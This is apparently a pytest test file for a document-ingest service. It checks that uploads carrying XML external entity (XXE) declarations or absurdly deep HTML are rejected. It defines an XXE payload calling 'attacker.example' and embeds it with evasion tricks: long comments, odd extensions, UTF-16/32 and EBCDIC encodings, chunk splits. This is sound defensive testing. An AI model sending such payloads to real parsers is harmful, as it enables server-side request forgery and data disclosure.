"""Issue 14: hostile or odd inputs that used to pass ingest (or fail it wrongly)."""

import hashlib
import io

import pytest

from strata.contracts.documents import DocumentErrorCode
from strata.ingest.checks import inspect_upload
from strata.ingest.errors import RejectedError
from strata.ingest.htmlguard import nesting_depth
from strata.ingest.limits import IngestLimits
from strata.ingest.sniff import sniff
from strata.ingest.xmlguard import declares_dtd
from tests.support import hostile

XXE = '<!DOCTYPE foo [<!ENTITY % e SYSTEM "http://attacker.example/x">%e;]>'


def _code(data: bytes, filename: str) -> DocumentErrorCode | None:
    try:
        inspect_upload(
            data,
            filename=filename,
            expected_sha256=hashlib.sha256(data).hexdigest(),
            limits=IngestLimits(),
        )
    except RejectedError as exc:
        return exc.error_code
    return None


def _docx_with_part(name: str, body: bytes) -> bytes:
    return hostile.docx(["hello"], extra={name: body})


def test_a_dtd_after_a_long_comment_is_found() -> None:
    part = f'<?xml version="1.0"?><!--{"x" * 70_000}-->{XXE}<a/>'.encode()
    assert (
        _code(_docx_with_part("word/footer1.xml", part), "a.docx") is DocumentErrorCode.UNSAFE_XML
    )


def test_a_dtd_in_a_part_with_another_extension_is_found() -> None:
    part = f'<?xml version="1.0"?>{XXE}<a/>'.encode()
    assert _code(_docx_with_part("word/custom.dat", part), "a.docx") is DocumentErrorCode.UNSAFE_XML


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-32-le"])
def test_a_dtd_in_utf16_or_utf32_without_bom_is_found(encoding: str) -> None:
    part = f'<?xml version="1.0" encoding="{encoding[:6]}"?>{XXE}<a/>'.encode(encoding)
    assert _code(_docx_with_part("word/styles.xml", part), "a.docx") is DocumentErrorCode.UNSAFE_XML


def test_a_declared_single_byte_encoding_is_honoured() -> None:
    # In cp037 (EBCDIC) the ASCII bytes of "<!DOCTYPE" do not appear at all.
    part = b'<?xml version="1.0" encoding="cp037"?>' + f"{XXE}<a/>".encode("cp037")
    assert b"DOCTYPE" not in part
    assert declares_dtd(io.BytesIO(part))


def test_a_declaration_split_across_chunks_is_found(monkeypatch: pytest.MonkeyPatch) -> None:
    from strata.ingest import xmlguard  # noqa: PLC0415

    monkeypatch.setattr(xmlguard, "CHUNK", 7)
    assert declares_dtd(io.BytesIO(f"<?xml version='1.0'?>{XXE}<a/>".encode()))
    assert not declares_dtd(io.BytesIO(b"<?xml version='1.0'?><a>no declaration</a>"))


def test_an_unknown_declared_encoding_is_refused() -> None:
    part = b'<?xml version="1.0" encoding="x-made-up"?><a/>'
    assert _code(_docx_with_part("word/a.xml", part), "a.docx") is DocumentErrorCode.UNSAFE_XML


def test_media_parts_and_clean_packages_pass() -> None:
    png = b"\x89PNG\r\n\x1a\n" + b"<!DOCTYPE" + bytes(100)
    assert _code(_docx_with_part("word/media/image1.png", png), "a.docx") is None


def test_html_fragment_is_html() -> None:
    fragment = b"<h1>T</h1><table><tr><td>a</td></tr></table><script>x()</script>"
    assert sniff(fragment, "page.html") == "html"
    assert sniff(fragment, None) == "html"
    assert sniff(b"<div>raw html in markdown</div>\n\n# Title\n", "notes.md") == "md"


def test_excessive_html_nesting_is_refused_early() -> None:
    deep = ("<div>" * 10_000 + "x" + "</div>" * 10_000).encode()
    assert _code(deep, "deep.html") is DocumentErrorCode.HTML_TOO_DEEP


def test_sloppy_but_real_html_is_not_deep() -> None:
    page = (
        "<html><body>" + "<p>para" * 5000 + "<ul>" + "<li>item<br>" * 5000 + "</ul></body></html>"
    )
    assert nesting_depth(page, stop_at=300) == 3
    assert nesting_depth("<div><!-- <div><div> --><script>'<div>'</script></div>", stop_at=9) == 1


def test_latin1_html_is_still_html() -> None:
    assert sniff("<!DOCTYPE html><p>café</p>".encode("cp1252"), "x.html") == "html"


@pytest.mark.parametrize(
    ("data", "kind"),
    [(b"II*\x00" + bytes(20), "tiff"), (b"MM\x00*" + bytes(20), "tiff")],
)
def test_tiff_is_sniffed_from_bytes(data: bytes, kind: str) -> None:
    assert sniff(data, "scan.bin") == kind
